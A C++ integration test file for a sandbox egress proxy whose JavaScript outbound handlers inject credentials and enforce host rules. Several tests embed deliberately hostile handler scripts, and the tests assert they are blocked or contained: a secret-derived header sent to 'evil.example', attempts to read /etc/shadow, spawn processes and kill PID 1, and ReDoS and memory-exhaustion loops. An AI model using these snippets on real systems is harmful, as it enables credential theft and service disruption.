// Handlers as operators write them and sandboxes meet them: the daemon, Node.js, curl, an origin.
#include <gmock/gmock.h>

#include <filesystem>

#include "files.h"
#include "leak.h"
#include "served.h"

namespace sallyport::integration {
namespace {

using testing::HasSubstr;
using testing::Not;

constexpr const char* kWebSocketClient = SALLYPORT_SOURCE_DIR "/tests/integration/clients/websocket.py";

// The example of the documentation, to the letter.
constexpr const char* kExample = R"(export const outboundByHost = {
  "my-internal-vcs.dev": (request, env, ctx) => {
    const headers = new Headers(request.headers);
    headers.set("x-auth-token", env.SECRET);
    return fetch(request, { headers });
  },
};
export const outboundHandlers = {            // named, attached at run time with params
  readOnly(request, env, ctx) {              // ctx: { sandboxId, containerId, className, policy, params, requestId }
    return request.method === "GET" ? fetch(request) : new Response("read only", { status: 403 });
  },
};
export const outbound = (request, env, ctx) => fetch(request);   // catch-all, where present
)";

std::string deployment(const std::string& rules, const std::string& more_policy = {}, const std::string& more = {}) {
    World& world = World::get();
    return "version: 1\nupstream_ca: " + world.path("root.pem") + "\nsecrets:\n  vcs_token: { file: " +
           world.path("secrets/token") + " }\n  other: { file: " + world.path("secrets/other") + R"( }
credentials:
  vcs: { type: header, name: X-Auth-Token, value: "${secrets.vcs_token}" }
policies:
  agent:
    default: deny
    script: handlers/vcs.js
    env: { SECRET: vcs_token }
)" + more_policy + "    rules:\n" + rules +
           "sandboxes:\n  one: { policy: agent, params: { tenant: acme } }\n  two: { policy: agent }\n" + more;
}

const std::string kRules = "      - { host: my-internal-vcs.dev, handler: vcs }\n      - { host: open.acme.example }\n"
                           "      - { host: denied.example, deny: true }\n";

const std::string kNoHandlerRule = "      - { host: open.acme.example }\n";

class Handlers : public IntegrationTest {
protected:
    static Served serve(const std::string& script, const std::string& rules = kRules, const std::string& more_policy = {}) {
        return Served(deployment(rules, more_policy), {.files = {{"handlers/vcs.js", script}}});
    }
    // "status body"
    static std::string fetch(const Served& served, const std::string& url, std::vector<std::string> more = {},
                             const std::string& sandbox = "one") {
        more.insert(more.begin(), {"-w", " %{http_code}", url});
        return served.curl_in(sandbox, more).all();
    }
    static std::string error_of(const Served& served, std::size_t line) {
        const auto log = served.access_log(line + 1);
        return log.size() > line ? log[line]["error"] : "no line";
    }
};

TEST_F(Handlers, TheExampleRunsUnchanged) {
    const Served served = serve(kExample);
    EXPECT_EQ(fetch(served, "https://my-internal-vcs.dev/private"), "welcome\n 200");
    EXPECT_THAT(seen_by("my-internal-vcs.dev"), HasSubstr(std::string(kSecret)));
    EXPECT_EQ(fetch(served, "https://open.acme.example/private"), "who are you\n 401") << "rules come after outboundByHost";
    // The catch-all fetches the request's own host, whatever no rule allows; a deny is a deny.
    EXPECT_EQ(fetch(served, "https://other.acme.example/private"), "who are you\n 401");
    EXPECT_THAT(fetch(served, "https://denied.example/"), HasSubstr("denied_by_rule"));
    EXPECT_EQ(seen_by("denied.example"), "");
}

TEST_F(Handlers, BodiesStreamBothWaysAndAreLeftAsTheyAre) {
    const Served served = serve(kExample);
    const std::string upload = world().scratch() + "/upload";
    write_file(upload, std::string(3'000'000, 'x'));
    EXPECT_THAT(fetch(served, "https://my-internal-vcs.dev/upload", {"-T", upload}), HasSubstr("\"bytes\": 3000000"));
    EXPECT_EQ(served.curl_in("one", {"https://my-internal-vcs.dev/big?bytes=5000000"}).out.size(), 5'000'000u);
    EXPECT_EQ(fetch(served, "https://my-internal-vcs.dev/204"), " 204");
    EXPECT_THAT(fetch(served, "https://my-internal-vcs.dev/head", {"-I"}), HasSubstr("ontent-length: 1234"));
    EXPECT_THAT(fetch(served, "https://my-internal-vcs.dev/redirect?to=https://evil.example/", {"-i"}),
                HasSubstr("ocation: https://evil.example/"));
    // The first event comes before the second one exists.
    world().make_gate("event");
    Process events = served.start_in("one", {.argv = {"curl", "-sSN", "--max-time", "50", "https://my-internal-vcs.dev/events?gate=event"}});
    EXPECT_TRUE(wait_for_text(events.out_path(), "data: first")) << events.err() << served.messages();
    world().open_gate("event");
    EXPECT_EQ(events.wait(), 0);
    EXPECT_EQ(events.out(), "data: first\n\ndata: second\n\n");
}

TEST_F(Handlers, AWebSocketGoesThrough) {
    const Served served = serve(kExample);
    const Finished client = served.run_in("one", {"/usr/bin/python3", kWebSocketClient, "wss://my-internal-vcs.dev/websocket", "hello", "bye"});
    EXPECT_EQ(client.out, "101\nauthorised\nhello\nclosed\n") << client.err << served.messages();
    const Finished refused = served.run_in("one", {"/usr/bin/python3", kWebSocketClient, "wss://my-internal-vcs.dev/websocket?refuse=1"});
    EXPECT_EQ(refused.out, "403\n") << refused.err;
}

TEST_F(Handlers, ASyntheticHostIsAnsweredLocally) {
    const Served served = serve(R"(export const outboundByHost = {
  "clock.local": async (request, env, ctx) => Response.json({ ...ctx, secret: Object.keys(env), body: await request.text() }),
  "*.wild.local": () => new Response("wild"),
};)", kNoHandlerRule);
    const std::string answer = fetch(served, "https://clock.local/now", {"-d", "tick"});
    for (const char* part : {R"("sandboxId":"one")", R"("containerId":"one")", R"("className":"agent")", R"("policy":"agent")",
                             R"("params":{"tenant":"acme"})", R"("secret":["SECRET"])", R"("body":"tick")", " 200"}) {
        EXPECT_THAT(answer, HasSubstr(part));
    }
    EXPECT_EQ(fetch(served, "https://a.wild.local/"), "wild 200");
    EXPECT_THAT(fetch(served, "https://wild.local/"), HasSubstr("\"error\":\"denied\""));
    EXPECT_EQ(world().dns_questions(), std::vector<std::string>()) << "nobody outside is asked";
}

TEST_F(Handlers, AFetchElsewhereIsDecidedByTheRules) {
    const Served served = serve(R"(export const outboundByHost = {
  "my-internal-vcs.dev": async (request, env) => {
    const to = new URL(request.url).searchParams.get("to");
    const answer = await fetch(to, { headers: { "x-leak": env.SECRET.length.toString() } });
    return new Response(`${answer.status} ${await answer.text()}`);
  },
};)");
    EXPECT_EQ(fetch(served, "https://my-internal-vcs.dev/?to=https://open.acme.example/private"), "401 who are you\n 200");
    EXPECT_THAT(fetch(served, "https://my-internal-vcs.dev/?to=https://evil.example/"), HasSubstr("403 "));
    EXPECT_THAT(fetch(served, "https://my-internal-vcs.dev/?to=https://denied.example/"), HasSubstr("denied_by_rule"));
    EXPECT_THAT(fetch(served, "https://my-internal-vcs.dev/?to=http://metadata.example/"), HasSubstr("403 "));
    EXPECT_THAT(fetch(served, "https://my-internal-vcs.dev/?to=https://expired.example/"), Not(HasSubstr(" 200 200")));
    EXPECT_EQ(seen_by("evil.example") + seen_by("denied.example") + seen_by("metadata.example"), "");
}

TEST_F(Handlers, OverCleartextNoSecretGoesOut) {
    const Served served = serve(R"(export const outbound = (request, env) =>
  fetch(request, { headers: { "x-auth-token": env.SECRET } });)");
    EXPECT_THAT(fetch(served, "http://my-internal-vcs.dev/private"), HasSubstr("cleartext_credential"));
    EXPECT_THAT(seen_by("my-internal-vcs.dev"), Not(HasSubstr(std::string(kSecret))));
}

TEST_F(Handlers, WhatGoesWrongIsADenyWithItsReason) {
    const Served served = serve(R"(export const outboundByHost = {
  "throws.local": () => { throw new Error("secret reason"); },
  "rejects.local": async () => { throw new TypeError("no"); },
  "returns.local": () => "a string",
  "nothing.local": () => {},
  "exits.local": () => process.exit(3),
};)", kNoHandlerRule);
    const std::pair<const char*, const char*> cases[] = {{"throws", "handler_threw"}, {"rejects", "handler_threw"},
                                                         {"returns", "handler_bad_return"}, {"nothing", "handler_bad_return"},
                                                         {"exits", "handler_crashed"}};
    std::size_t line = 0;
    for (const auto& [host, error] : cases) {
        const std::string answer = fetch(served, std::string("https://") + host + ".local/");
        EXPECT_THAT(answer, HasSubstr(std::string("\"error\":\"") + error)) << host;
        EXPECT_THAT(answer, testing::EndsWith(" 403")) << host;
        EXPECT_THAT(answer, Not(HasSubstr("secret reason")));
        EXPECT_EQ(error_of(served, line++), error);
    }
}

constexpr const char* kHostile = R"(export const outboundByHost = {
  "spins.local": () => { while (true) {} },
  "allocates.local": () => { const all = []; while (true) all.push(new Array(1000).fill(Math.random())); },
  "buffers.local": () => { const all = []; while (true) all.push(Buffer.alloc(1 << 20, 1)); },
  "regex.local": () => new Response(String(/^(a+)+$/.test("a".repeat(60) + "!"))),
  "crashes.local": () => process.abort(),
  "waits.local": () => new Promise(() => {}),
  "fine.local": () => new Response("fine"),
};)";

// One sandbox's handler is stuck; the other's, under the same policy, answers meanwhile.
TEST_F(Handlers, X11_AHandlerThatNeverEndsIsEndedAndOthersDoNotFeelIt) {
    const Served served = serve(kHostile, kNoHandlerRule, "    handler_limits: { deadline: 2s, memory: 64MB }\n");
    EXPECT_EQ(fetch(served, "https://fine.local/", {}, "two"), "fine 200");
    for (const char* host : {"spins", "regex", "waits"}) {
        Process stuck = served.start_in("one", {.argv = {"curl", "-sS", "--max-time", "50", std::string("https://") + host + ".local/"}});
        for (int i = 0; i < 5; ++i) EXPECT_EQ(fetch(served, "https://fine.local/", {}, "two"), "fine 200") << host;
        EXPECT_EQ(fetch(served, "https://open.acme.example/204"), " 204") << "requests without a handler go on";
        EXPECT_EQ(stuck.wait(), 0) << stuck.err();
        EXPECT_THAT(stuck.out(), HasSubstr("handler_timeout")) << host;
        EXPECT_EQ(fetch(served, "https://fine.local/"), "fine 200") << "started again after " << host;
    }
}

TEST_F(Handlers, X11_AHandlerThatTakesAllMemoryIsEnded) {
    for (const char* host : {"allocates", "buffers", "crashes"}) {
        const Served served = serve(kHostile, kNoHandlerRule, "    handler_limits: { deadline: 20s, memory: 64MB }\n");
        const std::string answer = fetch(served, std::string("https://") + host + ".local/");
        EXPECT_THAT(answer, testing::AnyOf(HasSubstr("handler_crashed"), HasSubstr("handler_threw"))) << host;
        EXPECT_EQ(fetch(served, "https://fine.local/", {}, "two"), "fine 200") << host;
    }
}

TEST_F(Handlers, X11_TheJailHoldsWhateverTheScriptTries) {
    const Served served = serve(R"(import fs from "node:fs"; import net from "node:net"; import child from "node:child_process"; import os from "node:os";
const attempt = async (what) => { try { return String(await what()).slice(0, 60); } catch (error) { return "refused " + error.code; } };
const dial = (options) => new Promise((done, failed) => net.connect(options, () => done("connected")).on("error", failed));
export const outbound = async () => Response.json({
  passwd: await attempt(() => fs.readFileSync("/etc/shadow")),
  root: await attempt(() => fs.readdirSync("/root").join()),
  policy: await attempt(() => fs.readdirSync(")" + world().directory() + R"(").join()),
  loopback: await attempt(() => dial({ host: "127.0.0.1", port: 22 })),
  outside: await attempt(() => dial({ host: "203.0.113.66", port: 80 })),
  admin: await attempt(() => dial({ path: "/run/sallyport/admin.sock" })),
  spawn: await attempt(() => child.execFileSync("/usr/bin/id")),
  kill: await attempt(() => process.kill(1, 9)),
  interfaces: await attempt(() => Object.keys(os.networkInterfaces()).join()),
  environment: Object.keys(process.env).join(),
});)");
    const std::string answer = fetch(served, "https://anything.local/");
    EXPECT_THAT(answer, testing::EndsWith(" 200")) << served.messages();
    for (const char* refused : {"passwd", "root", "policy", "loopback", "outside", "admin"}) {
        EXPECT_THAT(answer, HasSubstr(std::string("\"") + refused + "\":\"refused")) << answer;
    }
    EXPECT_THAT(answer, Not(HasSubstr("uid=0(root) gid=0(root) groups=0(root),")));
    EXPECT_EQ(seen_by("evil.example"), "");
}

TEST_F(Handlers, TheConsoleIsInTheLogWithSecretsMasked) {
    const Served served = serve(R"(export const outbound = (request, env) => {
  console.log("seen", request.url, env.SECRET); console.error("\x1b[31mred", env.SECRET.slice(0, 3)); return new Response("ok"); };)");
    Process& daemon = const_cast<Served&>(served).daemon();
    EXPECT_EQ(fetch(served, "https://console.local/x"), "ok 200");
    EXPECT_TRUE(wait_for_text(daemon.err_path(), "seen https://console.local/x ***")) << served.messages();
    EXPECT_TRUE(wait_for_text(daemon.err_path(), "red")) << served.messages();
    EXPECT_THAT(served.messages(), Not(HasSubstr("\x1b")));
}

TEST_F(Handlers, NamedHandlersAreAttachedAtRunTimeWithParams) {
    const Served served = serve(std::string(kExample) + "outboundHandlers.tell = (request, env, ctx) => Response.json(ctx.params);\n");
    EXPECT_EQ(fetch(served, "https://open.acme.example/echo", {"-d", "x", "-o", "/dev/null"}), " 200");
    EXPECT_EQ(served.call("PUT", "/v1/sandbox/one/egress/hosts/OPEN.acme.example.", R"({"handler": "readOnly"})").status, 200);
    EXPECT_EQ(fetch(served, "https://open.acme.example/echo", {"-d", "x"}), "read only 403");
    EXPECT_EQ(fetch(served, "https://open.acme.example/204"), " 204");
    EXPECT_EQ(fetch(served, "https://open.acme.example/echo", {"-d", "x", "-o", "/dev/null"}, "two"), " 200") << "the other sandbox";
    EXPECT_EQ(served.call("PUT", "/v1/sandbox/one/egress/hosts/tell.local", R"({"handler": "tell", "params": {"level": 3}})").status, 200);
    EXPECT_EQ(fetch(served, "https://tell.local/"), R"({"level":3,"tenant":"acme"} 200)");
    EXPECT_EQ(served.call("PUT", "/v1/sandbox/one/egress/hosts/x.local", R"({"handler": "nosuch"})").status, 422);
    EXPECT_EQ(served.call("DELETE", "/v1/sandbox/one/egress/hosts/open.acme.example").status, 204);
    EXPECT_EQ(fetch(served, "https://open.acme.example/echo", {"-d", "x", "-o", "/dev/null"}), " 200") << "what was there is back";
    // A deny is before every handler.
    EXPECT_EQ(served.call("PUT", "/v1/sandbox/one/egress/hosts/denied.example", R"({"handler": "tell"})").status, 200);
    EXPECT_THAT(fetch(served, "https://denied.example/"), HasSubstr("denied_by_rule"));
    // The catch-all at run time is before the script's own.
    EXPECT_EQ(served.call("PUT", "/v1/sandbox/one/egress/handler", R"({"handler": "tell"})").status, 200);
    EXPECT_EQ(fetch(served, "https://unknown.local/"), R"({"tenant":"acme"} 200)");
    EXPECT_EQ(served.call("DELETE", "/v1/sandbox/one/egress/handler").status, 204);
}

TEST_F(Handlers, AServiceInAnotherLanguageIsAHandlerToo) {
    const std::string socket = world().scratch() + "/handlers.sock";
    Process service = world().start({.argv = {"/usr/bin/python3", SALLYPORT_SOURCE_DIR "/examples/handlers/python_handler.py", socket}});
    ASSERT_TRUE(wait_for_text(service.out_path(), "ready")) << service.err();
    std::string file = deployment("      - { host: my-internal-vcs.dev, handler: vcs }\n");
    file.replace(file.find("script: handlers/vcs.js"), 23, "handler_socket: " + socket);
    const Served served(file);
    EXPECT_EQ(fetch(served, "https://my-internal-vcs.dev/private"), "welcome\n 200") << served.messages() << service.err();
    service.signal(SIGTERM);
    service.wait();
    EXPECT_THAT(fetch(served, "https://my-internal-vcs.dev/private"), HasSubstr("handler_"));
}

TEST_F(Handlers, AScriptThatDoesNotLoadIsRefusedAtTheStart) {
    for (const char* script : {"export const outbound = (", "throw new Error('at the top')", "export const outbound = 7"}) {
        const Served served(deployment(kRules), {.files = {{"handlers/vcs.js", script}}, .may_be_refused = true});
        EXPECT_FALSE(served.is_ready()) << script;
        EXPECT_THAT(served.messages(), HasSubstr("vcs.js")) << script;
    }
}

TEST_F(Handlers, AChangedScriptTakesEffect) {
    const Served served = serve(R"(export const outbound = () => new Response("one");)");
    Process& daemon = const_cast<Served&>(served).daemon();
    EXPECT_EQ(fetch(served, "https://x.local/"), "one 200");
    served.rewrite("handlers/vcs.js", R"(export const outbound = () => new Response("two");)");
    EXPECT_TRUE(wait_for_text(daemon.err_path(), "generation 2")) << served.messages();
    EXPECT_EQ(fetch(served, "https://x.local/"), "two 200");
}

}  // namespace
}  // namespace sallyport::integration
